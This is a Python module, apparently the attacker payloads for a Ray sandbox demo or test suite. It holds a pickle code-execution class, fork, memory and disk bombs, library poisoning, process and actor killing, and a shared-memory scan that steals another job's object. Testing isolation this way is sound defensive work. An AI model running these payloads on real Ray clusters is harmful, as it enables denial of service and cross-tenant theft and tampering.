"""What an attacker sends: runs in a worker on stock Ray, in a jail here.

Nothing of it knows where it runs. All of it is bounded, so that stock Ray and
the machine below it survive, and cleans up what it wins.
"""

from __future__ import annotations

import contextlib
import math
import os
import signal
import socket
import time
from collections.abc import Callable
from typing import Any

__all__ = [
    "Payload",
    "answer",
    "attempt",
    "connect_tcp",
    "connect_unix",
    "fill_disk",
    "flood",
    "fork_bomb",
    "junk_on_descriptors",
    "kill",
    "kill_actor",
    "memory_bomb",
    "poison",
    "read_file",
    "spin",
    "square_root",
    "steal_object",
    "write_file",
]


def attempt(function: Callable[..., Any], *arguments: Any) -> tuple[str, str]:
    """Run an attack; return ("", what was won) or (exception type, message)."""
    try:
        return "", str(function(*arguments))
    except Exception as error:  # noqa: BLE001 - whatever stops it is the answer
        return type(error).__name__, str(error)


class Payload:
    """Runs a function wherever it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


def answer(value: Any) -> Any:
    """Return the argument as it came."""
    return value


def read_file(path: str) -> str:
    """Read what is somebody else's."""
    with open(path) as file:
        return file.read()


def write_file(path: str, text: str) -> str:
    """Leave a file."""
    with open(path, "w") as file:
        file.write(text)
    return path


def poison() -> str:
    """Change a library for whoever uses this process next."""
    math.sqrt = lambda number: 42.0
    return "patched"


def square_root(number: float) -> float:
    """Compute the honest task's result."""
    return math.sqrt(number)


def fork_bomb(count: int) -> str:
    """Start many processes at once."""
    started = []
    try:
        for _ in range(count):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            started.append(pid)
    finally:
        for pid in started:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return f"{len(started)} processes"


def memory_bomb(mib: int) -> str:
    """Take memory and touch it."""
    return f"{len(bytearray(mib << 20)) >> 20} MiB taken"


def fill_disk(mib: int) -> str:
    """Write to the disk that raylet spills to."""
    path = f"/tmp/raysandbox-demo-fill-{os.getpid()}"
    try:
        with open(path, "wb") as file:
            for _ in range(mib):
                file.write(bytes(1 << 20))
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)
    return f"{mib} MiB written"


def connect_tcp(host: str, port: int) -> str:
    """Open a connection to a service of Ray's."""
    with socket.create_connection((host, port), timeout=5):
        return f"connected to {host}:{port}"


def connect_unix(path: str) -> str:
    """Open a connection to a local service of Ray's."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect(path)
        return f"connected to {path}"


def kill(pid: int) -> str:
    """Kill a process of the node."""
    os.kill(pid, signal.SIGKILL)
    return f"killed {pid}"


def kill_actor(name: str, namespace: str) -> str:
    """Kill another job's actor with Ray's own API."""
    import ray

    ray.kill(ray.get_actor(name, namespace))
    return f"killed the actor {name}"


def spin() -> None:
    """Never end."""
    while True:
        pass


def flood(mib: int) -> str:
    """Print without end, into Ray's logs."""
    line = "x" * ((1 << 10) - 1)
    for _ in range(mib << 10):
        print(line)
    return f"{mib} MiB printed"


def steal_object(marker: bytes) -> str:
    """Search Ray's shared memory for another job's object."""
    import ray

    with contextlib.suppress(Exception):
        # A large object of our own makes the client map the whole store.
        ray.get(ray.put(bytes(1 << 20)))
    with open("/proc/self/maps") as file:
        maps = [line.split() for line in file if "plasma" in line]
    if not maps:
        raise LookupError("no object store is mapped here")
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for words in maps:
            start, end = (int(word, 16) for word in words[0].split("-"))
            for at in range(start, end, 16 << 20):
                with contextlib.suppress(OSError, OverflowError):
                    memory.seek(at)
                    data = memory.read(min(16 << 20, end - at))
                    found = data.find(marker)
                    if found >= 0:
                        secret = data[found + len(marker) : found + len(marker) + 32]
                        return secret.decode()
    raise LookupError("no such object in the store")


def junk_on_descriptors() -> str:
    """Write junk to every socket that this process was born with."""
    hit = 0
    for fd in range(3, 1024):
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:"):
            with contextlib.suppress(OSError):
                os.write(fd, b"\xff" * 64)
                hit += 1
    if not hit:
        raise LookupError("no socket was inherited")
    return f"junk written to {hit} descriptors"
